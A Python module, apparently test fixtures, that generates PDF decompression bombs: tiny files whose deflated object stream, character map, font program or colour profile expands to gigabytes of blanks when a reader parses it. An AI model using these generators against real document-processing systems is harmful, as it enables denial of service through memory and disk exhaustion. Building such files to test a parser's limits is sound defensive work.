"""Small PDFs that unpack to gigabytes in places that only what reads the file looks into, made as bytes."""

import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

_PIECE = 1 << 20
_TEXT = b"BT /F1 14 Tf 72 700 Td (Noi dung bao cao cua don vi trong quy) Tj ET"


def packed(head: bytes, megabytes: int, tail: bytes = b"") -> bytes:
    """Deflated: `head`, so many megabytes of blanks, `tail`."""
    packer = zlib.compressobj(9)
    pieces = [packer.compress(head)]
    pieces += [packer.compress(b" " * _PIECE) for _ in range(megabytes)]
    return b"".join([*pieces, packer.compress(tail), packer.flush()])


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def _flate(entries: bytes, data: bytes) -> bytes:
    return _stream(entries + b" /Filter /FlateDecode", data)


def _written(path: Path, objects: Iterable[bytes], in_stream: dict[int, tuple[int, int]]) -> Path:
    """A PDF of objects numbered from 1 (1 the catalogue) with a cross-reference stream as the last one;
    `in_stream` tells of objects in object streams: number to stream and index."""
    out = bytearray(b"%PDF-1.5\n")
    rows = {0: (0, 0, 65535)}
    for number, body in enumerate(objects, start=1):
        if number not in in_stream:
            rows[number] = (1, len(out), 0)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows |= {number: (2, *place) for number, place in in_stream.items()}
    start, size = len(out), max(rows) + 2
    rows[size - 1] = (1, start, 0)
    told = [rows[number] for number in sorted(rows)]
    table = b"".join(kind.to_bytes(1) + place.to_bytes(4) + last.to_bytes(2) for kind, place, last in told)
    entries = b"/Type /XRef /W [1 4 2] /Size %d /Root 1 0 R" % size
    out += b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (size - 1, _stream(entries, table), start)
    path.write_bytes(out)
    return path


_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> %s >> >>"
)
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica %s >>"


def object_stream(path: Path, megabytes: int) -> Path:
    """The page itself lies in an object stream that is full of blanks."""
    page = _PAGE % b""
    head = b"3 0 "
    entries = b"/Type /ObjStm /N 1 /First %d" % len(head)
    holder = _flate(entries, packed(head + page, megabytes))
    objects = [_CATALOGUE, _PAGES, b"", _stream(b"", _TEXT), _FONT % b"", holder]
    return _written(path, objects, {3: (6, 0)})


def to_unicode(path: Path, megabytes: int) -> Path:
    """What the font's characters mean is told with gigabytes of blanks."""
    objects = [_CATALOGUE, _PAGES, _PAGE % b"", _stream(b"", _TEXT), _FONT % b"/ToUnicode 6 0 R"]
    return _written(path, [*objects, _flate(b"", packed(b"begincmap\n", megabytes, b"\nendcmap"))], {})


def font_file(path: Path, megabytes: int) -> Path:
    """The font's program is full of blanks."""
    described = b"<< /Type /FontDescriptor /FontName /Helvetica /Flags 32 /FontFile2 7 0 R >>"
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /Helvetica /FontDescriptor 6 0 R >>"
    objects = [_CATALOGUE, _PAGES, _PAGE % b"", _stream(b"", _TEXT), font, described]
    return _written(path, [*objects, _flate(b"", packed(b"\0\1\0\0", megabytes))], {})


def inherited_font(path: Path, megabytes: int) -> Path:
    """The same, and the page has its font from the pages' tree."""
    described = b"<< /Type /FontDescriptor /FontName /Helvetica /Flags 32 /FontFile2 7 0 R >>"
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /Helvetica /FontDescriptor 6 0 R >>"
    pages = _PAGES.replace(b"/Count", b"/Resources << /Font << /F1 5 0 R >> >> /Count")
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    program = _flate(b"", packed(b"\0\1\0\0", megabytes))
    return _written(path, [_CATALOGUE, pages, page, _stream(b"", _TEXT), font, described, program], {})


def colour_profile(path: Path, megabytes: int) -> Path:
    """A colour space's profile is full of blanks, and the page paints with it."""
    page = _PAGE % b"/ColorSpace << /C1 [/ICCBased 6 0 R] >>"
    content = b"/C1 cs 0.5 0.5 0.5 sc 100 100 200 200 re f " + _TEXT
    profile = _flate(b"/N 3", packed(b"", megabytes))
    return _written(path, [_CATALOGUE, _PAGES, page, _stream(b"", content), _FONT % b"", profile], {})


BOMBS: dict[str, Callable[[Path, int], Path]] = {
    "object stream": object_stream,
    "character map": to_unicode,
    "font": font_file,
    "colour profile": colour_profile,
    "inherited font": inherited_font,
}
